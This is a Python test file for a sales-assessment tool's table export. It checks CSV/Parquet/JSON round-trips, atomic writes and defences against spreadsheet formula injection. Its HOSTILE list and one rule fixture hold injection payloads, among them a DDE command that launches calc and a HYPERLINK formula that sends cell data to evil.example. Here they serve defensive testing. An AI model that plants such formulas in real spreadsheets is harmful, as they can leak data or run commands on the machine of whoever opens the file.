"""Tables out: the same as one company at a time says, written whole or not at all."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet
import pytest
from companies import random_companies
from given import BASE, EXAMPLES, VOCABULARY, sample, small_base
from hypothesis import given
from hypothesis import strategies as st

from salespath.engine import certainty
from salespath.engine.assess import assess
from salespath.engine.assessment import Assessment, subject
from salespath.engine.table import FactTable, assess_table
from salespath.engine.walk import SUMS
from salespath.facts import Case
from salespath.facts.values import cell_text
from salespath.facts.vocabulary import DIMENSIONS
from salespath.files.problems import SalespathError
from salespath.report.plain import document
from salespath.report.words.verdict import evidence
from salespath.rules.model import PROCESSES
from salespath.tables import csv_reader
from salespath.tables.assessed import AHEAD, work_ahead
from salespath.tables.batch import Batch
from salespath.tables.csv_cells import guard, quote, unguard
from salespath.tables.header import RESULTS
from salespath.tables.read import CompaniesFile
from salespath.tables.result_columns import ResultColumns, Wording
from salespath.tables.run import assess_to_file
from salespath.tables.word_lists import Lists, first, lists, without_repeats

TEXT = st.characters(exclude_characters="\0", exclude_categories=["Cs"])
REAL = str(EXAMPLES / "real_companies.csv")


def run(paths, out, **options):
    """Assess files into a file; the summary and the problems."""
    found = []
    return assess_to_file(
        BASE, [str(path) for path in paths], str(out), found.extend, **{"columns": ["all"], **options}
    ), found


def lifting(item) -> str:
    """What is said of an answer that lifts a block: committed_revenue >= 325000."""
    sign = {"at_least": ">=", "at_most": "<="}.get(item.bound, "=")
    return f"{sign} {cell_text(VOCABULARY[item.fact], item.value if item.amount is None else item.amount)}"


def wanted(a: Assessment) -> dict[str, object]:
    """The columns of results, from the assessment of one company."""
    rounded = {
        f"{kind}_{p}_{name}": round(figure(a.evidence[p][name]), 3) + 0.0
        for kind, figure in (("certainty", certainty.certainty), ("evidence", certainty.net))
        for p in PROCESSES
        for name in SUMS
    }
    chosen = sorted((f for p in subject(a) for f in a.reasons(p, 1)), key=lambda f: (-f.weight, f.rule))[:3]
    return {
        "process": a.process,
        "lead": a.lead,
        "leaning": a.leaning,
        "strength": a.strength.level,
        "hangs_on": [turn.fact for turn in a.strength.on],
        "settled": a.settled,
        "settled_by": a.settled_by,
        "possible": list(a.possible),
        **{f"{name}_{p}": evidence(a, p, name, "{word}") for name in SUMS for p in PROCESSES},
        **rounded,
        **{
            f"dimensions_{d}_{p}": round(certainty.certainty(a.evidence[p][d]), 3) + 0.0
            for d in DIMENSIONS
            for p in PROCESSES
        },
        "blockers": [b.rule for b in a.blockers],
        "unless": [f"{u.block}: {u.fact} {lifting(u)}" for u in a.unless],
        "reasons": [f.rule for f in chosen],
        "reason_texts": [f.because for f in chosen],
        "advice": list(dict.fromkeys(f"{item.topic}:{item.choice}" for item in a.advice)),
        "warnings": [w.rule for w in a.warnings],
        "flags": [f"{flag.level}:{flag.rule}" for flag in a.flags],
        "motion": a.motion,
        "second_motion": a.second_motion,
        "stage": a.stage,
        "fired": [f.rule for f in a.fired],
    }


@pytest.fixture(scope="module")
def portfolio(tmp_path_factory) -> Path:
    """Real companies and random ones, as a CSV file; every tenth row holds what cannot be."""
    path = tmp_path_factory.mktemp("portfolio") / "in.csv"
    found = [*CompaniesFile(BASE, REAL).portfolio().cases, *sample(random_companies(300, seed=3), 3)]
    with open(path, "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["company", *VOCABULARY])
        for number, case in enumerate(found):
            cells = [
                cell_text(VOCABULARY[name], case.values[name]) if name in case.values else "" for name in VOCABULARY
            ]
            if number % 10 == 9:
                cells[list(VOCABULARY).index("monthly_burn")] = "lots"
            writer.writerow([case.company, *cells])
    return path


@pytest.fixture(scope="module")
def assessments(portfolio) -> list[Assessment]:
    found = CompaniesFile(BASE, str(portfolio)).portfolio()
    assert found.problems
    return [assess(BASE, case) for case in found.cases]


@pytest.mark.more
def test_parquet_says_what_one_company_at_a_time_says(portfolio, assessments, tmp_path):
    summary, problems = run([portfolio], tmp_path / "out.parquet")
    assert summary.assessed == len(assessments) > 100
    assert summary.failed
    assert problems
    rows = pyarrow.parquet.read_table(tmp_path / "out.parquet").to_pylist()
    for row, a in zip(rows, assessments):
        assert row["company"] == a.company
        assert {name: row[name] for name in RESULTS if name != "first_question"} == wanted(a)
        for name in VOCABULARY:
            value = row[name] if not isinstance(row[name], list) else frozenset(row[name])
            value = value.isoformat() if VOCABULARY[name].type == "date" and value else value
            assert value == a.case.values.get(name)


@pytest.mark.more
def test_csv_says_what_one_company_at_a_time_says(portfolio, assessments, tmp_path, monkeypatch):
    monkeypatch.setattr(csv_reader, "ROWS", 50)
    run([portfolio], tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="") as file:
        rows = list(csv.DictReader(file, strict=True))
    assert len(rows) == len(assessments)
    for row, a in zip(rows, assessments):
        for name, value in wanted(a).items():
            if isinstance(value, bool):
                assert row[name] == ("yes" if value else "no")
            elif isinstance(value, list):
                assert row[name] == "; ".join(value)
            else:
                assert row[name] == ("" if value is None else str(value))


def test_json_is_one_array_of_the_documents(tmp_path):
    summary, _ = run([REAL], tmp_path / "out.json")
    assert str(summary) == "32 rows: 32 companies assessed, 0 rejected."
    found = json.loads((tmp_path / "out.json").read_text())
    assert found == json.loads(
        json.dumps([document(assess(BASE, c), table=True) for c in CompaniesFile(BASE, REAL).portfolio().cases])
    )


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_results_read_back_give_the_same_results(tmp_path, kind):
    once, twice = tmp_path / f"once.{kind}", tmp_path / f"twice.{kind}"
    run([REAL], once)
    summary, problems = run([once], twice)
    assert not summary.failed
    ((code, message),) = [(p.code, p.message) for p in problems]
    assert code == "SP113"
    assert message.startswith("the results of an earlier run are replaced: process, lead, leaning")
    if kind == "csv":
        assert once.read_bytes() == twice.read_bytes()
    else:
        assert pyarrow.parquet.read_table(once).equals(pyarrow.parquet.read_table(twice))


def test_csv_and_parquet_carry_the_same_facts_either_way(tmp_path):
    run([REAL], tmp_path / "a.csv")
    run([REAL], tmp_path / "a.parquet")
    run([tmp_path / "a.parquet"], tmp_path / "b.csv")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_a_fact_file_becomes_a_table_with_all_it_says(tmp_path):
    facts = tmp_path / "two.yaml"
    facts.write_text(
        "- company: Acme\n  id: 7\n  tags: [a, b]\n"
        "  facts: {capital: {value: 250.1250, how: guessed, note: soon}, self_serve: no}\n"
        "- company: Bad\n  facts: {capital: x}\n- company: Zeta\n  facts: {customer_segments: []}\n"
    )
    summary, problems = run([facts], tmp_path / "out.csv")
    assert (summary.assessed, summary.rejected, summary.failed) == (2, 1, True)
    assert [p.code for p in problems] == ["SP112"]
    with open(tmp_path / "out.csv", newline="") as file:
        first_row, second = csv.DictReader(file)
    assert {
        name: first_row[name] for name in ("company", "id", "tags", "capital", "self_serve", "customer_segments")
    } == {
        "company": "Acme",
        "id": "7",
        "tags": '["a", "b"]',
        "capital": "250.1250",
        "self_serve": "no",
        "customer_segments": "",
    }
    assert (first_row["capital__how"], first_row["capital__note"]) == ("guessed", "soon")
    assert second["customer_segments"] == "-"


def test_files_with_other_columns_become_one_table(tmp_path):
    (tmp_path / "a.csv").write_text("company,id,capital\nA,1,500\n")
    pyarrow.parquet.write_table(pa.table({"id": [2], "self_serve": [True], "more": [["x"]]}), tmp_path / "b.parquet")
    summary, _ = run([tmp_path / "a.csv", tmp_path / "b.parquet"], tmp_path / "out.csv")
    assert summary.assessed == 2
    with open(tmp_path / "out.csv", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0][:5] == ["company", "id", "capital", "self_serve", "more"]
    assert [row[:5] for row in rows[1:]] == [["A", "1", "500", "", ""], ["row 2", "2", "", "yes", '["x"]']]
    run([tmp_path / "a.csv", tmp_path / "b.parquet"], tmp_path / "out.parquet")
    found = pyarrow.parquet.read_table(tmp_path / "out.parquet").to_pylist()
    assert [(row["id"], row["capital"], row["self_serve"], row["more"]) for row in found] == [
        ("1", 500.0, None, None),
        ("2", None, True, ["x"]),
    ]


def test_a_cell_never_becomes_a_formula(tmp_path):
    (tmp_path / "in.csv").write_text(
        'company,=head,product_stage,comment\n=cmd(),+1,pilot,"@SUM(A1,A2)"\n-5,-,pilot,\t=1\n+40 721,-2+3,pilot,fine\n'
    )
    run([tmp_path / "in.csv"], tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="") as file:
        rows = [row[:4] for row in csv.reader(file)]
    assert rows == [
        ["company", "'=head", "product_stage", "comment"],
        ["'=cmd()", "+1", "pilot", "'@SUM(A1,A2)"],
        ["-5", "-", "pilot", "'\t'=1"],
        ["'+40 721", "'-2+3", "pilot", "fine"],
    ]


def live(cell: str) -> bool:
    """Whether a spreadsheet may run a cell, or a part of it where that is a cell of its own: told without what guards it."""
    for part in re.split(r"[;|\t\r\n]", cell):
        said = part.lstrip(' "\xa0')
        plain = re.fullmatch(r"-|[-+]?(\d[\d,]*(\.\d*)?|\.\d+)(e[-+]?\d+)?%?", said, re.ASCII | re.IGNORECASE)
        if said[:1] and said[0] in "=+-@＝＋－＠" and not plain:
            return True
    return cell.lstrip(' "\xa0')[:1] in tuple("\t\r\n")


HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", ";=1+1", "a;=1", "a\t=1", "a\n=1",
    " =1", '"=1', "\xa0=1", "; \"=1", "'=1", "''=1", "a;'=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A2)',
    "-2+3", "+40 721", "--1", "1;-5;=1", "\t\t=1", "'\t'=1",
)  # fmt: skip


def test_no_text_becomes_a_formula_wherever_it_is_opened():
    safe = guard(pa.array(HOSTILE))
    assert [cell for cell in safe.to_pylist() if live(cell)] == []
    assert unguard(safe).to_pylist() == list(HOSTILE)
    for harmless in ("-5", "+1.5e3", "-", "12%", "a - b", "a=b", "1;-5", "e-mail@example.org", "-1,234.50", ""):
        assert guard(pa.array([harmless])).to_pylist() == [harmless]


@given(
    st.lists(st.one_of(st.none(), st.text(TEXT, max_size=6), st.text(st.sampled_from("=+-@\t\r\n;|'\" \xa0＝,1.a"))))
)
def test_guarded_and_quoted_cells_read_back(texts):
    safe = guard(pa.array(texts, pa.string())).to_pylist()
    for cell in safe:
        assert not live(cell or "")
    assert unguard(pa.array(safe, pa.string())).to_pylist() == texts
    cells = [cell or "" for cell in quote(pa.array(safe, pa.string())).to_pylist()]
    (row,) = csv.reader(io.StringIO(",".join(["x", *cells, "x"]), newline=""), strict=True)
    assert row[1:-1] == [text or "" for text in safe]


def test_a_guarded_table_reads_back_as_it_was(tmp_path):
    texts = [text for text in HOSTILE if "\r" not in text and "\n" not in text]
    table = pa.table(
        {"company": [f"Co {text}" for text in texts], "=own": texts, "product_stage": ["pilot"] * len(texts)}
    )
    pyarrow.parquet.write_table(table, tmp_path / "in.parquet")
    run([tmp_path / "in.parquet"], tmp_path / "1.csv")
    run([tmp_path / "1.csv"], tmp_path / "2.csv")
    run([tmp_path / "2.csv"], tmp_path / "out.parquet")
    assert (tmp_path / "1.csv").read_bytes() == (tmp_path / "2.csv").read_bytes()
    back = pyarrow.parquet.read_table(tmp_path / "out.parquet")
    assert back["=own"].to_pylist() == texts
    assert back["company"].to_pylist() == table["company"].to_pylist()


def test_what_rules_say_becomes_no_formula(tmp_path):
    rules = """
        rules:
          - id: zz-a
            when: reachable_customers >= 1
            weigh: {process: smb, certainty: 0.95, line: reach}
            because: '=HYPERLINK("http://evil.example/?"&A2&B2,"open")'
            source: [K01]
          - id: zz-b
            when: reachable_customers >= 1
            advise: {topic: team, choice: '=1+1;=2,"x"', process: any, text: t}
            because: Because.
            source: [K01]
    """
    (tmp_path / "in.csv").write_text("company,reachable_customers\nSecret Co,5000\n")
    assess_to_file(small_base(rules), [str(tmp_path / "in.csv")], str(tmp_path / "out.csv"), list, columns=["all"])
    with open(tmp_path / "out.csv", newline="") as file:
        (row,) = csv.DictReader(file, strict=True)
    assert row["reason_texts"].startswith("'=HYPERLINK")
    assert row["advice"] == 'team:=1+1;\'=2,"x"'
    assert not any(live(cell) for cell in row.values())


@pytest.mark.parametrize("kind", ["csv", "parquet", "json"])
def test_nothing_is_written_where_a_file_cannot_be_read_to_its_end(tmp_path, monkeypatch, kind):
    monkeypatch.setattr(csv_reader, "ROWS", 2)
    bad = tmp_path / "bad.csv"
    bad.write_text("company,product_stage\n" + "A,pilot\n" * 20 + '"B,pilot\n')
    out = tmp_path / "out" / f"out.{kind}"
    out.parent.mkdir()
    out.write_text("what was there")
    with pytest.raises(SalespathError) as caught:
        run([REAL, bad], out, force=True)
    assert [(p.code, p.row) for p in caught.value.problems] == [("SP103", 22)]
    assert out.read_text() == "what was there"
    assert [path.name for path in out.parent.iterdir()] == [out.name]


def test_an_interrupt_leaves_nothing_behind(tmp_path):
    def interrupt(problems):
        raise KeyboardInterrupt

    (tmp_path / "in.csv").write_text("company,product_stage\nA,pilot\nB,x\n")
    with pytest.raises(KeyboardInterrupt):
        assess_to_file(BASE, [str(tmp_path / "in.csv")], str(tmp_path / "out.csv"), interrupt)
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


def test_every_file_that_cannot_be_opened_is_named_before_anything_is_done(tmp_path):
    with pytest.raises(SalespathError) as caught:
        run([tmp_path / "a.csv", REAL, tmp_path / "b.parquet"], tmp_path / "out.csv")
    assert [Path(p.file).name for p in caught.value.problems] == ["a.csv", "b.parquet"]
    assert not list(tmp_path.iterdir())


def test_a_table_whose_rows_are_all_bad_gives_the_header_only(tmp_path):
    (tmp_path / "in.csv").write_text("company,product_stage\nA,x\n")
    for kind in ("csv", "parquet", "json"):
        summary, _ = run([tmp_path / "in.csv"], tmp_path / f"out.{kind}")
        assert (summary.assessed, summary.rejected, summary.failed) == (0, 1, True)
    assert (tmp_path / "out.csv").read_text().startswith("company,product_stage,process,")
    assert (tmp_path / "out.csv").read_text().count("\n") == 1
    assert pyarrow.parquet.read_table(tmp_path / "out.parquet").num_rows == 0
    assert json.loads((tmp_path / "out.json").read_text()) == []


def test_a_base_without_evidence_blocks_or_advice_still_makes_columns():
    base = small_base()
    table = FactTable.from_cases(base, [Case("Acme", {"capital": 5})])
    batch = Batch("f", table, {}, np.array([2]), ())
    found = dict(zip(RESULTS, ResultColumns(Wording(base), batch, assess_table(base, table)).typed(RESULTS)))
    assert found["process"].to_pylist() == ["undetermined"]
    assert [found[name].to_pylist() for name in ("reasons", "blockers", "advice", "warnings")] == [[[]]] * 4
    assert found["fired"].to_pylist() == [["open"]]


# The parts


@given(st.integers(0, 40), st.integers(0, 30), st.integers(1, 4), st.randoms(use_true_random=False))
def test_lists_of_the_words_whose_bits_are_set(rows, count, most, source):
    flags = [[source.random() < 0.4 for _ in range(rows)] for _ in range(count)]
    bits = np.packbits(np.array(flags, dtype=bool).reshape(count, rows), axis=1).reshape(count, -(-rows // 8))
    labels = [f"w{n % 7}" for n in range(count)]
    set_in_row = [[labels[n] for n in range(count) if flags[n][row]] for row in range(rows)]
    assert lists(bits, labels, rows).typed().to_pylist() == set_in_row
    assert lists(first(bits, most), labels, rows).typed().to_pylist() == [items[:most] for items in set_in_row]
    assert lists(without_repeats(bits, labels), labels, rows).typed().to_pylist() == [
        [*dict.fromkeys(items)] for items in set_in_row
    ]


def test_parquet_keeps_words_once_that_a_list_has_twice(tmp_path):
    words = [f"Your runway of {months} months is short, and says so at some length." for months in (3, 4, 3)]
    made = Lists(np.array([0, 2, 3, 3], dtype=np.int32), np.array([0, 1, 2], dtype=np.int32), words).typed()
    assert made.to_pylist() == [words[:2], words[2:], []]
    pyarrow.parquet.write_table(pa.table({"texts": made}), tmp_path / "out.parquet")
    written = pyarrow.parquet.ParquetFile(tmp_path / "out.parquet").metadata.row_group(0).column(0)
    assert "RLE_DICTIONARY" in written.encodings  # else each text is written out in each row


def test_work_ahead_keeps_the_order_and_does_not_run_away():
    begun = []

    def items():
        for n in range(50):
            begun.append(n)
            yield n

    for place, found in enumerate(work_ahead(lambda n: n * n, items())):
        assert found == place * place
        assert len(begun) <= place + AHEAD + 1
    with pytest.raises(ZeroDivisionError):
        list(work_ahead(lambda n: 1 // (n - 3), range(10)))


def test_progress_is_shown_on_a_terminal_only(monkeypatch, capsys):
    from salespath.tables.progress import bar

    with bar(2) as advance:
        advance(10, 0.5)
    assert capsys.readouterr().err == ""
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    with bar(2) as advance:
        advance(1000, 0.5)
        advance(1000, 1.0)
        advance(1000, 0.5)
    assert "3,000 companies" in capsys.readouterr().err
